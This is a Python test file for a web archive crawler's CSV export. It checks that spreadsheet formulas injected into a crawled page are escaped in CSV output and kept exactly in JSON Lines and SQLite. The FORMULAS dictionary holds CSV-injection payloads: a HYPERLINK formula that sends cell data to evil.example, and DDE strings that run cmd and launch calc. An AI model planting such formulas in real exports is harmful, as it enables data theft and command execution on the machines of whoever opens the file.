"""Text from a crawled page never runs as a spreadsheet formula in the exported CSV.

A hostile page on 127.0.0.1 (the replica's Finnish page with formulas where themes and a
coordinator stand; a leading ``-`` the extraction takes for a bullet, so the unit cases
below hold that one) is crawled twice, so that the formulas reach both ``pilots.csv`` and
``changes.csv``; JSON Lines and SQLite must keep the exact values.
"""

import csv
import io
import json
import sqlite3
import urllib.request
from pathlib import Path

import pytest

from pilotarchive.export.formats import defuse
from pilotarchive.replica.server import ReplicaServer
from tests.helpers import run_cli
from tests.hostile import HostileServer

FORMULAS = {
    "Teollisuuden rakennemuutos ja uudet kasvualat": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "Iisalmen kaupunki": "+cmd|' /C calc'!A0",
    "Hyvinvointipalvelut ja seudun elinvoima": "=2+3+cmd|' /C calc'!A0",
    "Kaksikielisten kaupunkien yhteistyö ja kansainvälistyminen": "@SUM(1+1)*cmd|' /C calc'!A0",
}  # fmt: skip


def _crawl(server: HostileServer, output: Path) -> None:
    run = run_cli("crawl", f"{server.url}/p", "--output", str(output), "--fast-loopback",
                  "--scope", "page", "-s", "DOWNLOAD_TIMEOUT=5")  # fmt: skip
    assert run.returncode in (0, 3), run.stderr  # 3: degraded (no language versions here)


def _rows(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))


def test_formulas_from_a_page_are_defused_in_csv_and_kept_elsewhere(
    replica: ReplicaServer, hostile: HostileServer, tmp_path: Path
) -> None:
    with urllib.request.urlopen(f"{replica.url}/seutukaupunkipilotit", timeout=10) as answer:
        original = answer.read()
    headers = [(b"Content-Type", b"text/html; charset=iso-8859-1")]
    hostile.route("/p", body=original, headers=headers)
    output = tmp_path / "out"
    _crawl(hostile, output)
    hostile_page = original
    for honest, formula in FORMULAS.items():
        escaped = formula.replace("&", "&amp;").encode("latin-1")
        assert honest.encode("latin-1") in hostile_page
        hostile_page = hostile_page.replace(honest.encode("latin-1"), escaped)
    hostile.route("/p", body=hostile_page, headers=headers)
    _crawl(hostile, output)
    dataset = tmp_path / "dataset"
    run = run_cli("export", "--output", str(output), "--to", str(dataset))
    assert run.returncode == 0, run.stderr

    # JSON Lines: the exact text, as the page said it.
    themes = {json.loads(line).get("theme") for line in (dataset / "pilots.jsonl").open()}
    coordinators = {
        json.loads(line).get("coordinator") for line in (dataset / "pilots.jsonl").open()
    }
    assert FORMULAS["Teollisuuden rakennemuutos ja uudet kasvualat"] in themes
    assert FORMULAS["Iisalmen kaupunki"] in coordinators

    # CSV: no cell of any table begins with a formula character, unless a plain number.
    seen = []
    for table in ("pilots", "changes", "contacts", "pages", "snapshots"):
        for row in _rows(dataset / f"{table}.csv"):
            for value in row.values():
                if value and value[0] in "=+-@\t\r":
                    try:
                        float(value)
                    except ValueError:
                        pytest.fail(f"{table}.csv: a formula reaches the CSV: {value!r}")
                if value.startswith("'") and value[1:] in FORMULAS.values():
                    seen.append((table, value[1:]))
    tables = {table for table, _ in seen}
    assert {"pilots", "changes"} <= tables, seen
    assert {value for _, value in seen} == set(FORMULAS.values()), seen

    # SQLite: exact values too.
    db = sqlite3.connect(dataset / "pilotarchive.sqlite")
    try:
        found = {row[0] for row in db.execute("SELECT theme FROM pilots")}
    finally:
        db.close()
    assert FORMULAS["Teollisuuden rakennemuutos ja uudet kasvualat"] in found

    # The dataset says what it did, in its README and its data package.
    readme = (dataset / "README.md").read_text(encoding="utf-8")
    package = json.loads((dataset / "datapackage.json").read_text(encoding="utf-8"))
    assert "formula" in readme and "JSON" in readme
    assert package["pilotarchive:csv_formula_prefix"]["prefix"] == "'"
    assert all("formula" in r["description"] for r in package["resources"])


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+358 40 123", "'+358 40 123"),
        ("-", "'-"),
        ("@user", "'@user"),
        ("\tTAB", "'\tTAB"),
        ("\rCR", "'\rCR"),
        ("-12", "-12"),
        ("+35840123", "+35840123"),
        ("-1.5e3", "-1.5e3"),
        ("Raahe", "Raahe"),
        ("a=b", "a=b"),
        ("'quoted", "'quoted"),
        ("", ""),
    ],
    ids=lambda v: repr(v)[:20],
)
def test_defuse(cell: str, expected: str) -> None:
    assert defuse(cell) == expected
